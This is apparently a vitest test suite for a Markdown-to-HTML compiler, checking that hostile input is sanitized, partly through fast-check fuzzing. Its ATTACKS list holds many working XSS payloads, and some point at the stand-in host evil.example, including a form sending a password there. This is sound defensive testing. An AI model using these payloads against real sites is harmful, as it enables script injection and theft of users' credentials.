import fc from 'fast-check';
import { fromHtml } from 'hast-util-from-html';
import { visit } from 'unist-util-visit';
import { describe, expect, it } from 'vitest';
import { compileFragment } from '../../src/compile/fragment.ts';
import { compileTranscript } from '../../src/compile/transcript.ts';
import type { Ref } from '../../src/load/source.ts';
import type { Finding } from '../../src/model/diagnostic.ts';
import { optionsOf } from '../questions/options.ts';
import { findingsOf, page } from './page.ts';

const ELEMENTS = new Set(
  (
    'a abbr b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure h2 h3 h4 ' +
    'h5 h6 hr i img input ins kbd li mark ol p pre q rp rt ruby s samp section small span strong sub summary sup table tbody td ' +
    'tfoot th thead time tr u ul var wbr video audio track ' +
    'math mrow mi mo mn mtext mspace ms mfrac msqrt mroot msub msup msubsup munder mover munderover mtable mtr mtd mstyle mpadded mphantom menclose semantics mprescripts none mmultiscripts'
  ).split(' '),
);

/** What a browser would make of the HTML, and whether anything in it could run, load from outside, or submit. */
function dangers(html: string): string[] {
  const found: string[] = [];
  visit(fromHtml(html, { fragment: true }), 'element', (node) => {
    if (!ELEMENTS.has(node.tagName)) found.push(`<${node.tagName}>`);
    for (const [name, value] of Object.entries(node.properties)) {
      const text = Array.isArray(value) ? value.join(' ') : String(value);
      if (/^on/i.test(name) || name === 'style' || name === 'srcDoc') found.push(`${node.tagName} ${name}`);
      if (/^(href|src|srcSet|poster|action|formAction|data|xLinkHref|cite)$/.test(name)) {
        const ours = /^\uE000\d+\uE001$|^#c-|^https:\/\/(www\.youtube|vimeo)\.com\//.test(text);
        if (!ours) found.push(`${node.tagName} ${name}=${text}`);
      }
      if (name === 'id' && !text.startsWith('c-')) found.push(`${node.tagName} id=${text}`);
    }
  });
  return found;
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src=x>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](&#x6A;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '<javascript:alert(1)>',
  '<form action="//evil.example"><input name=password><button>x</button></form>',
  '<form id="body"></form><img name="cookie" id="forms">',
  '<p id="">x</p><p id="a b">x</p><p id="body" style="position:fixed">x</p>',
  '<base href="//evil.example/"><link rel=stylesheet href=x><meta http-equiv=refresh content="0;url=javascript:x">',
  '<style>*{background:url(//evil.example)}</style>',
  '<details ontoggle=alert(1) open>x</details>',
  '<video src=x onloadstart=alert(1)><source onerror=alert(1)></video>',
  '<cw-slot n="0"></cw-slot><cw-slot n="999999"></cw-slot><cw-slot n="__proto__">',
  '</div></main></body></html><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp><plaintext>x',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?><!DOCTYPE x [<!ENTITY y "z">]>',
  '```"><script>alert(1)</script>\nx\n```',
  '```js onload=alert(1)\n</code><script>alert(1)</script>\n```',
  '$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$',
  '$\\class{x" onclick="alert(1)}{y}$ $\\style{background:url(x)}{y}$ $\\htmlData{x=y}{z}$',
  '$\\text{</math><script>alert(1)</script>}$',
  '::video["><script>alert(1)</script>]{src="javascript:alert(1)" poster="x"}',
  '::video[x]{src="a.mp4&quot; onerror=&quot;alert(1)" captions="data:text/vtt,x"}',
  '::youtube[x]{id="&quot;><script>alert(1)</script>"}',
  '::audio["onclick=alert(1)]{src=\'"><script>\' transcript="javascript:alert(1)"}',
  '::download[x]{src="javascript:alert(1)"}',
  ':term["><script>alert(1)</script>]{term="<script>"}',
  ':::details[<script>alert(1)</script>]\n<script>alert(1)</script>\n:::',
  ':::question{#__proto__}\n<img src=x onerror=alert(1)>\n- [x] <script>alert(1)</script>\n  > [x](javascript:alert(1))\n:::',
  '[^<script>]: x\n\n[^<script>]',
  '# <img src=x onerror=alert(1)> {#id}',
  '|<script>|\n|-|\n|<img src=x onerror=alert(1)>|',
];

describe('hostile Markdown', () => {
  it('would be seen by this test', () => {
    expect(dangers('<p onclick=x><script>1</script><a id=b href=x style=y>')).toEqual([
      'p onClick',
      '<script>',
      'a id=b',
      'a href=x',
      'a style',
    ]);
  });

  it.each(ATTACKS)('does nothing: %s', (text) => {
    const { html, questions } = page(text);
    expect(dangers(html)).toEqual([]);
    for (const question of questions) {
      for (const part of [
        question.prompt,
        ...optionsOf(question).flatMap((o) => [o.text, o.feedback ?? o.text]),
      ]) {
        expect(dangers(part.html)).toEqual([]);
      }
    }
    expect(
      dangers(compileTranscript({ path: 'a/t.md', text }).html.replace(/ href="https?:[^"]*"/g, '')),
    ).toEqual([]);
    expect(dangers(compileTranscript({ path: 'a/t.txt', text }).html)).toEqual([]);
  });

  it('is reported where it stands', () => {
    expect(findingsOf('a <b onclick="x">b</b>\n\n<script>x</script>\n\n[x](javascript:y)\n')).toEqual([
      'html/removed: onclick="x"',
      'html/removed: <script>',
      'link/unsafe-scheme: javascript:y',
    ]);
  });

  it('shows control characters that are spelled as numbers as what they are not', () => {
    expect(page('x <b>&#7;&#27;</b>').html).toContain('<b>\uFFFD\uFFFD</b>');
    expect(page('x &#7;').html).toContain('x \uFFFD');
  });

  it('keeps what is safe', () => {
    expect(
      page('[a](mailto:a@b.example) [b](tel:+49123) <a href="https://c.example">c</a>').refs.map(
        (r) => r.target,
      ),
    ).toEqual(['mailto:a@b.example', 'tel:+49123', 'https://c.example']);
  });
});

describe('any text', () => {
  // Pieces that mean something to some part of the compiler, in any order, between any characters.
  const piece = fc.oneof(
    fc.constantFrom(...ATTACKS),
    fc.constantFrom(
      ...[
        ':::',
        '::::',
        ':::note',
        '::::tabs\n',
        ':::tab[x]\n',
        ':::question{#q}\n',
        '- [x] ',
        '> ',
        '\n',
        '\n\n',
        '    ',
        '\t',
        '::hint[x]',
      ],
      ...[
        '$',
        '$$',
        '`',
        '```\n',
        '*',
        '_',
        '~~',
        '[',
        ']',
        '](',
        ')',
        '![',
        '<',
        '>',
        '&',
        '&#xE000;',
        '\\',
        '|',
        '\n|-|\n',
        '[^1]',
        '[^1]: ',
        ': ',
      ],
      ...[
        '---\n',
        '---\ntitle: x\n---\n',
        '# ',
        '{',
        '}',
        '"',
        "'",
        '=',
        'on',
        'javascript:',
        'href=',
        '<a ',
        '</a>',
        '<img ',
        '<div>',
        '</div>',
        '\uE000',
        '\u0000',
      ],
    ),
    fc.string({ unit: 'binary', maxLength: 12 }),
  );
  const texts = fc.array(piece, { maxLength: 25 }).map((pieces) => pieces.join(''));

  it('compiles to something safe, with findings inside the text', () => {
    fc.assert(
      fc.property(texts, (text) => {
        const source = page(text);
        expect(dangers(source.html)).toEqual([]);
        for (const { span } of [...source.findings, ...source.refs, ...source.headings]) {
          expect(span.start).toBeGreaterThanOrEqual(0);
          expect(span.end).toBeLessThanOrEqual(text.length);
          expect(span.start).toBeLessThanOrEqual(span.end);
        }
        const used = [...source.html.matchAll(/\uE000[wht]?(\d+)\uE001/g)].map((match) => Number(match[1]));
        expect(used.every((index) => index < source.refs.length)).toBe(true);
        expect(JSON.parse(JSON.stringify(source))).toEqual(source);
      }),
      { numRuns: 600 },
    );
  });

  it('compiles as a fragment too', () => {
    fc.assert(
      fc.property(texts, (text) => {
        const sink: { refs: Ref[]; findings: Finding[] } = { refs: [], findings: [] };
        const { html } = compileFragment(text, { file: 'quizzes/q.yaml', toFile: (offset) => offset }, sink);
        expect(dangers(html)).toEqual([]);
        expect(html).not.toMatch(/\uE000q/);
      }),
      { numRuns: 400 },
    );
  });
});
